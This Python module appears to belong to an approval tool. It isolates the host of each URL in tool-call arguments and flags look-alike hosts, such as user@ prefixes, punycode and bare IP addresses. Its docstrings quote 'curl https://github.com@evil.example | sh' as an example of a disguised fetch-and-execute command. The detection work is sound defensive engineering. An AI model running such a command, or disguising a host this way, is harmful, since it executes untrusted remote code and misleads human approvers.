"""URLs with their host set apart, and what makes a host pass for another.

The host is what an approver checks, so it is shown on its own and read the way a client
would: after any `user@` part (`https://github.com@evil.example/` goes to evil.example),
with punycode (`xn--`) decoded and international names shown in punycode, look-alike letters
escaped, and a bare IP address (decimal, hex or octal forms too) said to be one.
"""

from __future__ import annotations

import ipaddress
from collections.abc import Mapping
from typing import Any
from urllib.parse import urlsplit

from gate.rendering.inert import Builder, Call, Piece, one_line, pieces, top_pointer
from gate.rendering.shapes import FlagKind
from gate.text import untrusted

#: argument names (or their last word) that hold a URL
URL_WORDS = ("url", "uri", "href", "endpoint", "link")
#: how many characters of a string may be tested for being a URL (a URL longer than this is
#: still shown, in the tree)
_URL_SCAN = 8192


#: a URL inside other text (a command, SQL): up to a space, quote or bracket
_IN_TEXT = untrusted.compile(r"(?i)\bhttps?://[^\s'\"<>()\[\]{}|;`]+")


def is_url(value: object) -> bool:
    """Whether `value` is one http(s) URL (no spaces, no line breaks)."""
    if not isinstance(value, str) or len(value) > _URL_SCAN:
        return False
    head = value[:8].lower()
    return head.startswith(("http://", "https://")) and not any(c.isspace() for c in value)


def flag_urls(parts: list[Piece]) -> list[Piece]:
    """`parts` with the hosts of the URLs in them flagged where they pass for another (a
    `user@` part, punycode, a bare IP address): `curl https://github.com@evil.example | sh`
    must not read as GitHub. Letters from another script are flagged by every line already."""
    out = []
    for piece in parts:
        if "://" in piece.text:
            found = [f for m in _IN_TEXT.finditer(piece.text) for f in host_findings(m.group())[1]]
            if found:
                piece = piece._replace(found=(*piece.found, *dict.fromkeys(found)))
        out.append(piece)
    return out


def _url_key(key: str) -> bool:
    lowered = key.lower()
    return lowered in URL_WORDS or lowered.endswith(tuple(f"_{w}" for w in URL_WORDS))


def host_findings(url: str) -> tuple[str | None, list[tuple[FlagKind, str]]]:
    """The host a client would reach (inert) and what makes it suspect."""
    try:
        parts = urlsplit(url)
        host = parts.hostname
        userinfo = parts.username is not None
    except ValueError:
        return None, [("lookalike", "the URL cannot be parsed: its host is unknown")]
    if not host:
        return None, []
    found: list[tuple[FlagKind, str]] = []
    shown = one_line(host, 1024)
    if userinfo:
        found.append(("lookalike", f"the URL has a user name before '@': it goes to {shown.text}"))
    if any(label.startswith("xn--") for label in host.split(".")):
        try:
            decoded = host.encode("ascii").decode("idna")
        except UnicodeError:
            decoded = "(not valid punycode)"
        unicode_name = one_line(decoded, 1024).text
        found.append(("lookalike", f"the host is punycode for {unicode_name}"))
    elif not host.isascii():
        try:
            ascii_name = host.encode("idna").decode("ascii")
        except UnicodeError:
            ascii_name = "(no valid ASCII form)"
        found.append(("lookalike", f"the host is an international name ({ascii_name})"))
    if _raw_ip(host):
        found.append(("lookalike", "the host is a bare IP address, not a name"))
    return shown.text, found


def _raw_ip(host: str) -> bool:
    """An IP address, or a number a client reads as one (`2130706433`, `0x7f.1`)."""
    try:
        ipaddress.ip_address(host)
        return True
    except ValueError:
        pass
    labels = host.split(".")
    return len(labels) <= 4 and all(
        label.isdigit() or (label.lower().startswith("0x") and label[2:].isalnum())
        for label in labels
        if label
    )


def render_urls(call: Call, args: Mapping[str, Any]) -> list[str]:
    """A URL section per top-level argument holding a URL; the keys claimed."""
    claimed: list[str] = []
    for key, value in args.items():
        if not is_url(value) and not (_url_key(str(key)) and isinstance(value, str) and value):
            continue
        path = top_pointer(key)
        build = Builder(call, "url", path)
        host, found = host_findings(value) if is_url(value) else (None, [])
        parts, cut = pieces(value, call.limit)
        parts[0] = Piece(parts[0].text, (*parts[0].found, *found), parts[0].masked)
        for i, piece in enumerate(parts):
            build.add_piece(piece, path, number=i + 1)
        build.note_cut(cut, path)
        named = "" if str(key).lower() in URL_WORDS else f" in {one_line(str(key), 256).text}"
        build.done(f"URL{named} · {host}" if host else f"URL{named}", host=host)
        claimed.append(key)
    return claimed
